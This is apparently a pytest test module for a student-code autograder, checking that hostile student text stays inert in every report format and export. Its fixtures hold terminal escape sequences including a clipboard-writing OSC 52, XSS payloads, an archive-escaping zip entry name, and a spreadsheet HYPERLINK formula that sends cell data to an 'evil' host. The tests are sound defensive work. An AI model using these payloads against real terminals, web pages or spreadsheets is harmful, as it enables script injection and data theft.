"""Student text reaches every destination inert: the terminal (check, grade, export), every report
format (text, Markdown, HTML, JUnit, JSON, CSV, Gradescope, the GitHub step summary and
annotations). One class run grades the hostile submissions once; each test reads what it wrote.

The student controls their file names (so the ids and display names read from them), what their
code raises and prints, and the names of the entries of the archive they are handed in through."""

import contextlib
import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from html.parser import HTMLParser

import pytest
import torch  # noqa: F401  (before pytester's run, which would import it a second time)
from conftest import RUBRIC, SOLUTIONS, assert_junit_10
from hypothesis import example, given
from hypothesis import strategies as st

from grader import ci, cli, safe_text
from grader.batch.gradebook import Row
from grader.report.gradescope import results
from grader.report.html import render_html
from grader.report.junit import render_junit
from grader.report.markdown import render_markdown
from grader.report.text import render_text

pytest_plugins = ["pytester"]

# A file name can hold anything but a slash and NUL: an OSC 52 (writes the clipboard), an erase
# line and a carriage return, a C1 CSI, HTML, a Markdown link, fence and table pipe, a bidi override.
HOSTILE_NAME = ("\x1b]52;c;aGk=\x07\x1b[2K\r\x9b31m<img src=x onerror=alert(1)>"
                "[a](javascript:alert(2))![i](http:x)```|x\u202egnp")
# What the code raises: the same on one line (the reports quote the first), then a fence.
HOSTILE_MESSAGE = ("\x1b]52;c;aGk=\x07\x1b[2K\r\x1b[32m✔ all passed\x1b[0m <script>alert(3)</script>"
                   " <img src=x onerror=alert(4)> [click](javascript:alert(5)) ![x](http://evil/x.png)"
                   " | a | b \u202etxt.exe\n```\n</pre># heading")
MOODLE_FOLDER = f"{HOSTILE_NAME}_1234567_assignsubmission_file_"  # its display name is HOSTILE_NAME

# Independent of grader.safe_text: what must not reach a terminal, and what XML 1.0 cannot hold.
RAW_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def hostile_source() -> str:
    return (SOLUTIONS.read_text() + "\n\ndef softmax_naive(x):\n"
            f"    raise ValueError({HOSTILE_MESSAGE!r})\n")


def assert_terminal_safe(text: str) -> None:
    found = sorted(set(RAW_TERMINAL.findall(text)))
    assert not found, f"raw control or bidi characters {found!r} in {text[:300]!r}"


def rendered_markdown(markdown: str) -> str:
    """What Markdown renders as Markdown: everything outside the fenced blocks (which must close)."""
    outside, fence = [], None
    for line in markdown.splitlines():
        if fence is None and line.startswith("```"):
            fence = line[: len(line) - len(line.lstrip("`"))]
        elif fence is not None and line == fence:
            fence = None
        elif fence is None:
            outside.append(line)
    assert fence is None, "the student's text closed a fence early"
    return "\n".join(outside)


def assert_markdown_safe(markdown: str) -> None:
    assert_terminal_safe(markdown)
    outside = rendered_markdown(markdown)
    assert "<" not in outside, "an HTML tag outside a fence"
    for target in re.findall(r"(?<!\\)\[[^\]]*(?<!\\)\]\(([^)]*)\)", outside):  # links and images
        assert target.startswith(("plots/", "feedback/")), f"a link the student wrote: {target!r}"
    tables = re.findall(r"(?:^\|.*\n?)+", outside, flags=re.MULTILINE)
    for table in tables:
        pipes = {len(re.findall(r"(?<!\\)\|", row)) for row in table.splitlines()}
        assert len(pipes) == 1, f"a row with cells of its own: {table}"


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, [name for name, _ in attrs]))


def assert_html_safe(html: str) -> None:
    assert_terminal_safe(html)
    tags = Tags()
    tags.feed(html)
    assert not [tag for tag, _ in tags.found if tag in ("script", "img")]
    assert not [name for _, names in tags.found for name in names if name.startswith("on")]


def assert_xml_safe(text: str) -> ET.Element:
    root = ET.fromstring(text.split("\n", 1)[1] if text.startswith("<?xml") else text)
    for element in root.iter():
        for value in (element.text or "", *element.attrib.values()):
            assert_terminal_safe(value)
    return root


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """One `grade` run of a class that is all hostile: a file named HOSTILE_NAME whose code raises
    HOSTILE_MESSAGE, an unreadable notebook named after it, and a zip holding a Moodle folder of a
    student displayed as HOSTILE_NAME, that entry again, and an entry that escapes the archive."""
    base = tmp_path_factory.mktemp("hostile_class")
    folder = base / "class"
    folder.mkdir()
    (folder / f"{HOSTILE_NAME}.py").write_text(hostile_source())
    (folder / f"{HOSTILE_NAME}2.ipynb").write_text("not a notebook")
    archive = base / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf, pytest.warns(UserWarning, match="Duplicate"):
        zf.writestr(f"{MOODLE_FOLDER}/attention.py", hostile_source())
        zf.writestr(f"{MOODLE_FOLDER}/attention.py", "")
        zf.writestr(f"../{HOSTILE_NAME}.py", "")
    out = base / "out"
    stderr = io.StringIO()
    with contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(io.StringIO()):
        code = cli.main(["grade", str(folder), str(archive), "--out", str(out), "--jobs", "2",
                         "--rubric", str(RUBRIC)])
    assert code == 0, stderr.getvalue()
    rows = [Row.from_json(line) for line in (out / "results.jsonl").read_text().splitlines()]
    return out, stderr.getvalue(), rows


def reports(graded):
    return [row.report for row in graded[2] if row.report is not None]


def test_archive_entries_named_with_escape_sequences_are_printed_by_grade_as_text(graded):
    _, stderr, _ = graded
    assert "a second entry with this name" in stderr and "escapes the archive" in stderr
    assert_terminal_safe(stderr)
    for line in stderr.splitlines():  # a name's newline or CR cannot start a line of its own
        assert line.startswith(("attention-grader: ", "graded ")) or not line.strip(), line


def test_a_student_named_with_escape_sequences_is_printed_by_export_as_text(graded, tmp_path):
    out, _, _ = graded
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n"
                      f'"{HOSTILE_NAME}",999,,,A\n', encoding="utf-8")
    stderr = io.StringIO()
    with contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(io.StringIO()):
        assert cli.main(["export", str(out), "--lms", "canvas", "--roster", str(roster),
                         "-o", str(tmp_path / "import.csv")]) == 0
    said = stderr.getvalue()
    assert "in the roster, no grade written" in said and "graded, not in the roster" in said
    assert "alert(1)" in said  # the names are there, as text
    assert_terminal_safe(said)
    for line in said.splitlines():
        assert line.startswith("attention-grader: "), line


def test_a_file_named_with_html_and_escapes_is_inert_in_every_output_of_check_in_ci(tmp_path, monkeypatch,
                                                                                     capsys):
    submission = tmp_path / f"{HOSTILE_NAME}.py"
    submission.write_text(hostile_source())
    summary, junit = tmp_path / "summary.md", tmp_path / "junit.xml"
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    monkeypatch.setenv("GITHUB_WORKSPACE", str(tmp_path))
    assert cli.main(["check", str(submission), "--step", "softmax_naive", "--colour", "never",
                     "--junit", str(junit)]) == 1
    printed = capsys.readouterr()
    assert "alert(4)" in printed.out
    assert_terminal_safe(printed.out)
    assert_terminal_safe(printed.err)
    commands = [line for line in printed.err.splitlines() if line.startswith("::")]
    assert len(commands) == 1 and commands[0].startswith("::error file=")
    assert len(printed.err.splitlines()) == 1  # the annotation is one line: nothing of it escaped
    assert_markdown_safe(summary.read_text())
    assert_junit_10(assert_xml_safe(junit.read_text()))


def test_html_links_and_pipes_in_names_and_exceptions_render_as_text_in_markdown(graded):
    out, _, _ = graded
    documents = [*sorted((out / "feedback").glob("*.md")), out / "summary.md"]
    assert len(documents) >= 4
    for path in documents:
        assert_markdown_safe(path.read_text())
    assert "alert(1)" in (out / "summary.md").read_text()  # the names are there, as text


def test_a_tag_in_a_name_or_an_exception_is_text_in_the_html_reports(graded):
    out, _, _ = graded
    documents = [*sorted((out / "feedback").glob("*.html")), out / "summary.html"]
    for path in documents:
        assert_html_safe(path.read_text())
    assert "&lt;img src=x onerror=alert(1)&gt;" in (out / "summary.html").read_text()


def test_a_name_with_controls_is_a_plain_cell_of_grades_csv(graded):
    out, _, _ = graded
    rows = list(csv.reader(io.StringIO((out / "grades.csv").read_text())))
    for cell in (cell for row in rows[1:] for cell in row):
        assert not cell.startswith(("=", "+", "-", "@")), cell
        assert_terminal_safe(cell)


def test_escape_sequences_reach_results_jsonl_only_as_json_escapes(graded):
    out, _, _ = graded
    text = (out / "results.jsonl").read_text()
    assert_terminal_safe(text)
    assert [json.loads(line) for line in text.splitlines()]


def test_every_report_format_of_a_hostile_submission_is_inert(graded):
    for report in reports(graded):
        assert_terminal_safe(render_text(report))
        assert_markdown_safe(render_markdown(report))
        assert_html_safe(render_html(report))
        assert_junit_10(assert_xml_safe(render_junit(report)))
        assert_terminal_safe(report.to_json())


def test_gradescope_shows_a_hostile_submissions_results_as_plain_text(graded):
    for report in reports(graded):
        made = results(report)
        assert made["output_format"] == made["test_output_format"] == "text"
        tests = made["tests"]
        for text in [made["output"], *(t["output"] for t in tests), *(t["name"] for t in tests)]:
            assert_terminal_safe(text)


def test_a_file_named_with_escapes_gets_one_inert_annotation_line_per_step(graded):
    for report in reports(graded):
        for command in ci.annotations(report, report.submission):
            assert "\n" not in command and "\r" not in command
            assert_terminal_safe(command)
            assert command.startswith("::error file=")


FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'
ROSTERS = {  # each platform's roster with a student whose name is a formula (students set names)
    "canvas": ("Student,ID,SIS User ID,SIS Login ID,Section\n"
               f'"{FORMULA.replace(chr(34), chr(34) * 2)}",1234567,,,A\n'),
    "moodle": ("Identifier,Full name,Email address,Status,Grade,Maximum Grade\n"
               f'Participant 1234567,"{FORMULA.replace(chr(34), chr(34) * 2)}",,,,98\n'),
    "blackboard": ("Last Name,First Name,Username,Student ID\n"
                   f'"{FORMULA.replace(chr(34), chr(34) * 2)}",+1,u1,1\n'),
}


@pytest.mark.parametrize("platform", sorted(ROSTERS))
def test_a_display_name_that_is_a_formula_is_text_in_the_import_file(tmp_path, platform):
    from grader.batch.lms import export
    from grader.models import Report

    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTERS[platform], encoding="utf-8")
    graded = [Row(id, "attention.py", Report("attention.py", 90.0, 98.0, ()), "graded")
              for id in ("1234567", "u1")]
    made = export(platform, graded, roster, "attention-grader", 98)
    written = list(csv.reader(io.StringIO(made.text)))
    names = [cell for row in written[1:] for cell in row if "HYPERLINK" in cell or cell.endswith("1")]
    assert names and all(not cell.startswith(("=", "+", "-", "@")) for cell in names), written


def test_an_exception_with_escapes_and_a_bidi_override_is_text_in_pytest_output(pytester, tmp_path):
    submission = tmp_path / "hostile.py"  # pytest prints the path it is given as it is
    submission.write_text(hostile_source())
    result = pytester.runpytest("--attention-submission", str(submission), "-k", "softmax_naive",
                                "-p", "no:cacheprovider")
    result.assert_outcomes(failed=1, deselected=18)
    printed = "\n".join(result.outlines + result.errlines)
    assert "alert(4)" in printed
    assert_terminal_safe(printed)


# Each destination's function, on any text.

@given(st.text())
def test_terminal_leaves_no_control_or_bidi_character(text):
    assert_terminal_safe(safe_text.terminal(text).replace("\n", "").replace("\t", ""))
    assert "\n" not in safe_text.terminal(text, newlines=False)


@given(st.text())
def test_markdown_inline_leaves_no_tag_link_pipe_or_line_break(text):
    out = safe_text.markdown_inline(text)
    assert "<" not in out and ">" not in out and "\n" not in out
    assert not re.search(r"(?<!\\)[\[\]|`*_]", out.replace("\\\\", "")), out  # each one escaped
    assert_terminal_safe(out)


@given(st.text())
def test_markdown_fence_cannot_be_closed_by_its_text(text):
    fence, body, close = safe_text.markdown_fence(text)
    assert fence == close + "text" and len(close) >= 3
    assert close not in body
    assert_terminal_safe(body.replace("\n", "").replace("\t", ""))


@given(st.text())
def test_html_text_leaves_no_tag(text):
    out = safe_text.html_text(text)
    tags = Tags()
    tags.feed(f"<p title=\"{out}\">{out}</p>")
    assert tags.found == [("p", ["title"])]
    assert_terminal_safe(out.replace("\n", "").replace("\t", ""))


@given(st.text())
def test_xml_text_always_parses_back(text):
    element = ET.Element("case", {"message": safe_text.xml_text(text)})
    element.text = safe_text.xml_text(text)
    parsed = ET.fromstring(ET.tostring(element, encoding="unicode"))
    assert not NOT_XML.search(parsed.text or "") and not NOT_XML.search(parsed.get("message"))


@given(st.text())
@example("\u202e=1+1")  # a bidi override ahead of a formula
def test_csv_cell_is_never_a_formula(text):
    out = safe_text.csv_cell(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert_terminal_safe(out.replace("\n", "").replace("\t", ""))


@given(st.text())
def test_a_workflow_command_stays_one_inert_line(text):
    command = ci.error_command(text, 1, text, text)
    assert "\n" not in command and "\r" not in command
    assert_terminal_safe(command)
    head, _, _ = command.partition("::")[2].partition("::")
    assert head.count(",") == 2  # file, line, title: no property the student added
